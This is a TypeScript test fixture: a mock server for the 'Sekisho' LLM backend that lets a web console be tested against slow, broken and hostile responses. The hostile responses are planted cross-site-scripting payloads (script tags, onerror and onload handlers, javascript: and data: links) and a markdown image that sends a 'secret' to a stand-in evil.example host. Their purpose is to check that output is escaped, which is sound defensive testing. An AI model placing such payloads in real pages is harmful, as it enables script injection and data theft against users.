import { createConsoleAssets } from '../../src/http/console/console-assets.ts';

/** The one key the fixture accepts. */
export const FIXTURE_KEY = 'sk-sekisho-fixture-0042';

/** Does what a planted script would do; a page that shows it must stay as it is. */
const PLANTED = '<img src=x onerror="window.broken=1"><script>window.broken=1</script>';

const DOCUMENT = [
  'Sekisho is the production backend of an LLM application in one process. ',
  'A key is made with `sekisho keys create`; it is shown once and stored as a hash. ',
  '関所は、すべてのリクエストを確かめて送り出す門です。',
].join('');
const JAPANESE_START = DOCUMENT.indexOf('関所');

interface FixtureSource {
  document_id: string;
  chunk_id: string;
  start: number;
  end: number;
  title: string;
  heading_path: string[];
  content: string;
  score: number;
  metadata: Record<string, unknown>;
}

export interface ConsoleFixture {
  origin: string;
  stop: () => Promise<void>;
  /** How many streams were left by their reader. */
  aborted: () => number;
  /** Waits until more than `count` were left. */
  abortedAfter: (count: number) => Promise<number>;
}

/** A small server that speaks what the console speaks, with answers that can be slow, broken or hostile. */
export function startConsoleFixture(folder: string): ConsoleFixture {
  const assets = createConsoleAssets({ folder });
  let aborted = 0;
  let heard = Promise.withResolvers<void>();
  const onAbort = () => {
    aborted += 1;
    heard.resolve();
    heard = Promise.withResolvers<void>();
  };
  const server = Bun.serve({
    port: 0,
    hostname: '127.0.0.1',
    idleTimeout: 0,
    async fetch(request) {
      const { pathname } = new URL(request.url);
      const asset = assets(pathname);
      if (asset !== undefined) return asset;
      if (pathname === '/openapi.json') return Response.json(OPENAPI);
      if (request.headers.get('authorization') !== `Bearer ${FIXTURE_KEY}`) return refuse(request);
      if (pathname === '/v1/models') return Response.json({ object: 'list', data: MODELS });
      if (pathname === '/v1/query') return answerQuery(await bodyOf(request), onAbort);
      if (pathname === '/v1/chat/completions') return answerChat(await bodyOf(request));
      return new Response('nothing', { status: 404 });
    },
  });
  const abortedAfter = async (count: number) => {
    if (aborted <= count) await heard.promise;
    return aborted;
  };
  return {
    origin: `http://127.0.0.1:${server.port}`,
    stop: () => server.stop(true),
    aborted: () => aborted,
    abortedAfter,
  };
}

const MODELS = [
  { id: 'fast', object: 'model', owned_by: 'openai', kinds: ['chat'], description: 'gpt-4o-mini, then claude-haiku' },
  { id: 'extractive', object: 'model', owned_by: 'sekisho', kinds: ['chat'], description: 'Verbatim sentences.' },
  { id: 'embed-small', object: 'model', owned_by: 'openai', kinds: ['embedding'] },
  { id: 'rag/handbook', object: 'model', owned_by: 'sekisho', kinds: ['chat'], description: `docs ${PLANTED}` },
];

function refuse(request: Request): Response {
  const japanese = request.headers.get('accept-language')?.startsWith('ja') === true;
  const message = japanese ? 'API キーが登録されていません。' : 'The API key is not known, revoked or expired.';
  return Response.json(
    { error: { message, code: 'invalid_key', type: 'authentication_error' } },
    { status: 401, headers: { 'x-sekisho-request-id': 'req_refused' } },
  );
}

async function bodyOf(request: Request): Promise<Record<string, unknown>> {
  return Object.fromEntries(Object.entries(Object(await request.json())));
}

function answerQuery(body: Record<string, unknown>, onAbort: () => void): Response {
  const query = String(body['query']);
  if (query.includes('break')) return stream([frame('delta', { text: 'Half an ans' })], 'end', onAbort);
  if (query.includes('slow')) return stream([frame('delta', { text: 'Slowly' })], 'hang', onAbort);
  if (query.includes('fail')) {
    const error = { code: 'overloaded', message: `Too much at once ${PLANTED}`, request_id: 'req_late' };
    return stream([frame('delta', { text: 'Well' }), frame('error', { error })], 'end', onAbort);
  }
  const hostile = query.includes('hostile');
  const japanese = /[\u3040-\u30ff]/.test(query);
  const answer = hostile ? HOSTILE_ANSWER : japanese ? DOCUMENT.slice(JAPANESE_START) : DOCUMENT.slice(0, 153);
  const sources = hostile ? [hostileSource(), ...sourcesOf()] : sourcesOf();
  const citations = hostile ? [] : citationsOf(answer);
  const done = { answer, citations, sources, processing_time: 0.0123, model: 'extractive', answered: true };
  const explain = { hits: HITS, timings: { embed: 0.4, lexical: 2.1, dense: 1.7, fuse: 0.2, generate: 6.9 } };
  const pieces = answer.match(/[\s\S]{1,12}/g) ?? [];
  return stream(
    [
      frame('sources', { sources }),
      ...pieces.map((text) => frame('delta', { text })),
      frame('citations', { citations }),
      frame('done', { ...done, explain }),
    ],
    'end',
    onAbort,
  );
}

function answerChat(body: Record<string, unknown>): Response {
  const chunk = (delta: object) => `data: ${JSON.stringify({ choices: [{ index: 0, delta }] })}\n\n`;
  const usage = `data: ${JSON.stringify({ choices: [], usage: { prompt_tokens: 12, completion_tokens: 34 } })}\n\n`;
  const text = `## ${String(body['model'])}\n\nA list:\n\n- **one** with \`code\`\n- two, see [docs](https://example.org/a)\n\n`;
  const code = '```ts\nconst gate = open();\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n';
  return stream(
    [chunk({ content: text }), chunk({ content: code }), usage, 'data: [DONE]\n\n'],
    'end',
    () => undefined,
  );
}

const HOSTILE_ANSWER = [
  PLANTED,
  '[click](javascript:window.broken=1) [data](data:text/html,<script>window.broken=1</script>)',
  '![secret](https://evil.example/steal?q=secret) <iframe src="https://evil.example"></iframe>',
  '[ok](https://example.org/page) <svg onload="window.broken=1"> [1] [99] \ue101',
].join('\n\n');

function hostileSource(): FixtureSource {
  return {
    document_id: PLANTED,
    chunk_id: PLANTED,
    start: 0,
    end: 10,
    title: PLANTED,
    heading_path: [PLANTED, 'javascript:window.broken=1'],
    content: PLANTED,
    score: 0.99,
    metadata: { [PLANTED]: PLANTED, nested: { url: 'javascript:window.broken=1' } },
  };
}

function sourcesOf(): FixtureSource[] {
  const shared = { document_id: 'doc-1', title: 'What Sekisho is', metadata: { path: 'docs/en/what.md', lang: 'en' } };
  const first = { ...shared, chunk_id: 'c1', heading_path: ['What Sekisho is', 'Keys'], score: 0.92 };
  const second = {
    ...shared,
    chunk_id: 'c2',
    heading_path: ['関所とは', '名前の由来'],
    score: 0.41,
    title: '関所とは',
  };
  return [
    { ...first, start: 0, end: JAPANESE_START, content: DOCUMENT.slice(0, JAPANESE_START) },
    { ...second, start: JAPANESE_START, end: DOCUMENT.length, content: DOCUMENT.slice(JAPANESE_START) },
  ];
}

function citationsOf(answer: string): object[] {
  const sentences = DOCUMENT.split(/(?<=[.。] ?)/);
  return sentences.flatMap((each) => {
    const sentence = each.trim();
    const at = answer.indexOf(sentence);
    if (at < 0 || sentence === '') return [];
    const start = DOCUMENT.indexOf(sentence);
    const span = { document_id: 'doc-1', start, end: start + sentence.length, sentence };
    return [{ ...span, answer_start: at, answer_end: at + sentence.length }];
  });
}

const leg = (rank: number, raw: number, normalised: number) => ({ rank, raw, normalised, weight: 0.5 });
const HITS = [
  { chunk_id: 'c1', lexical: leg(1, 14.21, 1), dense: leg(2, 0.713, 0.84), fused: 0.92 },
  { chunk_id: 'c2', dense: leg(1, 0.802, 0.82), fused: 0.41 },
  { chunk_id: 'c9', lexical: leg(2, 3.9, 0.2), fused: 0.1 },
];

function frame(event: string, data: object): string {
  return `event: ${event}\ndata: ${JSON.stringify(data)}\n\n`;
}

/** Sends the frames one by one; `hang` keeps the stream open until the reader leaves. */
function stream(frames: readonly string[], ending: 'end' | 'hang', onAbort: () => void): Response {
  const encoder = new TextEncoder();
  let next = 0;
  const body = new ReadableStream<Uint8Array>(
    {
      pull(controller) {
        const text = frames[next];
        next += 1;
        if (text !== undefined) controller.enqueue(encoder.encode(text));
        else if (ending === 'end') controller.close();
        else return new Promise(() => undefined);
        return undefined;
      },
      cancel: onAbort,
    },
    { highWaterMark: 0 },
  );
  const headers = {
    'content-type': 'text/event-stream',
    'x-sekisho-request-id': 'req_0k3j5h2mfixture',
    'x-sekisho-route': 'rag/handbook',
    'x-sekisho-target': 'extractive/extractive',
    'x-sekisho-overhead-ms': '1.42',
    'x-sekisho-cost-usd': '0',
    'x-sekisho-cache': 'miss',
  };
  return new Response(body, { headers });
}

const OPENAPI = {
  openapi: '3.1.0',
  info: { title: 'Sekisho', version: '0.1.0' },
  paths: {
    '/v1/query': {
      post: {
        tags: ['Documents'],
        summary: `Ask the documents ${PLANTED}`,
        description: 'Answers from a collection, with citations.',
        requestBody: { content: { 'application/json': { schema: { $ref: '#/components/schemas/Query' } } } },
        responses: {
          200: { description: 'The answer', content: { 'application/json': { schema: { type: 'object' } } } },
          404: { description: 'No such collection' },
        },
      },
    },
    '/v1/models': {
      get: { tags: ['Models'], summary: 'What can be asked', responses: { 200: { description: 'A list' } } },
    },
    '/v1/keys/{id}': {
      delete: {
        tags: ['Keys'],
        summary: 'Revoke a key',
        parameters: [{ name: 'id', in: 'path', required: true, schema: { type: 'string' }, description: 'The key' }],
        responses: { 204: { description: 'Revoked' } },
      },
    },
  },
  components: {
    schemas: {
      Query: {
        type: 'object',
        required: ['query', 'collection'],
        properties: {
          query: { type: 'string', description: 'The question', example: 'What is Sekisho?' },
          collection: { type: 'string', description: 'Where to look', example: 'handbook' },
          top_k: { type: 'integer', default: 5, description: 'How many passages' },
          filters: { type: 'object', properties: { lang: { type: 'string', enum: ['en', 'ja'] } } },
          self: { $ref: '#/components/schemas/Query' },
        },
      },
    },
  },
};
